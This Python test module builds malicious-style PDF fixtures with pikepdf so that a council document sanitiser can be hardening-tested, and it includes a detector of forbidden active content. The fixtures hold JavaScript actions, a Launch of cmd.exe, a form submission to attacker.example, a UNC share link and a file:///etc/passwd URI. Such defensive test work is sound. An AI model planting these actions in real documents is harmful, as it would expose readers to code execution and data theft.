"""Council papers with active content in them, made with pikepdf as an attacker would: one
builder per kind the security review found getting through (issue 14), each on the same
two-page paper with an internal link (page 1 to page 2) and a web link, and all of them at once.

Run as a script to write the corpus to a folder: ``python -m tests.hardening.active_pdfs out/``.
"""

from __future__ import annotations

import io
import sys
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

PAGE_TEXTS = ("Better Care Fund quarterly return", "Appendix 1: the figures")
WEB_LINK = "https://www.coventry.gov.uk/bettercarefund"


def _font() -> Dictionary:
    return Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)


def _js(pdf: pikepdf.Pdf, code: str = "app.alert('pwned')") -> pikepdf.Object:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def _link(rect: list[int], action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, Border=[0, 0, 0], A=action)


def paper() -> pikepdf.Pdf:
    """Two pages of text; page 1 links to page 2 and to the council's site."""
    pdf = pikepdf.new()
    for text in PAGE_TEXTS:
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=_font()))
        content = f"BT /F1 14 Tf 72 760 Td ({text}) Tj ET".encode()
        page.obj.Contents = pdf.make_indirect(pikepdf.Stream(pdf, content))
    second = pdf.pages[1].obj
    pdf.pages[0].obj.Annots = Array(
        [
            pdf.make_indirect(
                _link([72, 700, 300, 720], Dictionary(S=Name.GoTo, D=[second, Name.Fit]))
            ),
            pdf.make_indirect(
                _link([72, 660, 300, 680], Dictionary(S=Name.URI, URI=String(WEB_LINK)))
            ),
        ]
    )
    return pdf


def save(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _add_link(pdf: pikepdf.Pdf, action: Dictionary) -> None:
    pdf.pages[0].obj.Annots.append(pdf.make_indirect(_link([72, 600, 300, 620], action)))


# One builder per kind; each changes the paper in place.


def js_next_chain_on_open(pdf):
    """An innocent open action (go to page 1) whose /Next leads, two steps on, to a script."""
    script = _js(pdf)
    middle = pdf.make_indirect(Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj, Name.Fit], Next=script))
    pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj, Name.Fit], Next=middle)


def js_next_chain_on_link(pdf):
    """A link to a web page whose /Next runs a script, the chain looping back on itself."""
    link = pdf.make_indirect(Dictionary(S=Name.URI, URI=String("https://example.org/")))
    script = _js(pdf)
    script.Next = link  # a cycle: link -> script -> link
    link.Next = Array([script])
    _add_link(pdf, link)


def js_next_chain_on_bookmark(pdf):
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Appendix 1", 1))
    item = pdf.Root.Outlines.First
    item.A = Dictionary(S=Name.GoTo, D=[pdf.pages[1].obj, Name.Fit], Next=_js(pdf))


def form_field_actions(pdf):
    """A text field whose keystroke and format actions run scripts, and a button that runs one."""
    page = pdf.pages[0].obj
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"),
            Rect=[72, 500, 300, 520], P=page,
            AA=Dictionary(K=_js(pdf, "event.rc = true"), F=_js(pdf, "event.value = 1")),
        )
    )  # fmt: skip
    button = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("go"),
            Rect=[72, 460, 300, 480], P=page, A=_js(pdf),
        )
    )  # fmt: skip
    page.Annots.extend([field, button])
    pdf.Root.AcroForm = Dictionary(Fields=[field, button])


def launch_on_open(pdf):
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    )


def launch_on_link(pdf):
    _add_link(pdf, Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe")))


def gotor_unc(pdf):
    spec = Dictionary(Type=Name.Filespec, F=String("\\\\attacker.example\\share\\x.pdf"))
    _add_link(pdf, Dictionary(S=Name.GoToR, F=spec, D=[0, Name.Fit]))


def submit_form_outside(pdf):
    spec = Dictionary(FS=Name.URL, F=String("https://attacker.example/collect"))
    _add_link(pdf, Dictionary(S=Name.SubmitForm, F=spec, Flags=4))


def javascript_uri(pdf):
    _add_link(pdf, Dictionary(S=Name.URI, URI=String("javascript:app.alert(1)")))


def file_uri(pdf):
    _add_link(pdf, Dictionary(S=Name.URI, URI=String("file:///etc/passwd")))


def associated_file(pdf):
    """PDF 2.0 associated files on the catalog and on a page."""
    spec = pikepdf.AttachedFileSpec(pdf, b"name,ni_number\nA Person,QQ123456C\n", filename="x.csv")
    spec_obj = pdf.make_indirect(spec.obj)
    pdf.Root.AF = Array([spec_obj])
    pdf.pages[1].obj.AF = Array([spec_obj])


def xfa(pdf):
    packet = pdf.make_indirect(pikepdf.Stream(pdf, b"<xdp:xdp><script>app.alert(1)</script>"))
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=packet)


def rich_media(pdf):
    asset = pikepdf.Stream(pdf, b"FWS flash bytes")
    asset.Type = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("movie.swf"), EF=Dictionary(F=asset))
    annot = Dictionary(
        Type=Name.Annot, Subtype=Name.RichMedia, Rect=[72, 300, 300, 400],
        RichMediaContent=Dictionary(Assets=Dictionary(Names=[String("movie.swf"), spec])),
    )  # fmt: skip
    pdf.pages[1].obj.Annots = Array([pdf.make_indirect(annot)])


def names_javascript(pdf):
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=[String("init"), _js(pdf, "this.exportDataObject()")])
    )


def embedded_file(pdf):
    pdf.attachments["budget.xlsx"] = pikepdf.AttachedFileSpec(pdf, b"spreadsheet bytes")


def page_and_catalog_triggers(pdf):
    pdf.Root.AA = Dictionary(WC=_js(pdf))
    pdf.pages[1].obj.AA = Dictionary(O=_js(pdf))


KINDS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "js_next_chain_on_open": js_next_chain_on_open,
    "js_next_chain_on_link": js_next_chain_on_link,
    "js_next_chain_on_bookmark": js_next_chain_on_bookmark,
    "form_field_actions": form_field_actions,
    "launch_on_open": launch_on_open,
    "launch_on_link": launch_on_link,
    "gotor_unc": gotor_unc,
    "submit_form_outside": submit_form_outside,
    "javascript_uri": javascript_uri,
    "file_uri": file_uri,
    "associated_file": associated_file,
    "xfa": xfa,
    "rich_media": rich_media,
    "names_javascript": names_javascript,
    "embedded_file": embedded_file,
    "page_and_catalog_triggers": page_and_catalog_triggers,
}


def make(*kinds: str) -> bytes:
    """The paper with the given kinds of active content added (all of them with none named)."""
    pdf = paper()
    for kind in kinds or KINDS:
        KINDS[kind](pdf)
    return save(pdf)


FORBIDDEN_KEYS = {"/JS", "/AA", "/AF", "/XFA", "/EF", "/EmbeddedFiles", "/JavaScript"}
FORBIDDEN_NAMES = {
    "/JavaScript", "/Launch", "/EmbeddedFile", "/GoToR", "/GoToE", "/SubmitForm",
    "/ImportData", "/RichMedia", "/FileAttachment", "/Screen", "/Movie", "/Sound", "/Rendition",
}  # fmt: skip


def active_left(data: bytes) -> list[str]:
    """Everything active left anywhere in a file, walking every object it holds (reachable or
    not): forbidden keys, forbidden names, and URIs other than web and e-mail addresses."""
    found = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack = [*pdf.objects, pdf.trailer]
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Stream):
                obj = obj.stream_dict
            if isinstance(obj, pikepdf.Dictionary):
                for key, value in obj.items():
                    if key in FORBIDDEN_KEYS:
                        found.append(key)
                    if key == "/URI" and isinstance(value, pikepdf.String):
                        uri = str(value).lower()
                        if not uri.startswith(("http://", "https://", "mailto:")):
                            found.append(f"URI {uri}")
                    if isinstance(value, pikepdf.Object) and not value.is_indirect:
                        stack.append(value)
            elif isinstance(obj, pikepdf.Array):
                stack.extend(v for v in obj if isinstance(v, pikepdf.Object) and not v.is_indirect)
            elif isinstance(obj, pikepdf.Name) and str(obj) in FORBIDDEN_NAMES:
                found.append(str(obj))
    return found


if __name__ == "__main__":  # pragma: no cover
    folder = Path(sys.argv[1] if len(sys.argv) > 1 else "active-pdfs")
    folder.mkdir(parents=True, exist_ok=True)
    for name in KINDS:
        (folder / f"{name}.pdf").write_bytes(make(name))
    (folder / "all.pdf").write_bytes(make())
    print(f"{len(KINDS) + 1} files in {folder}")
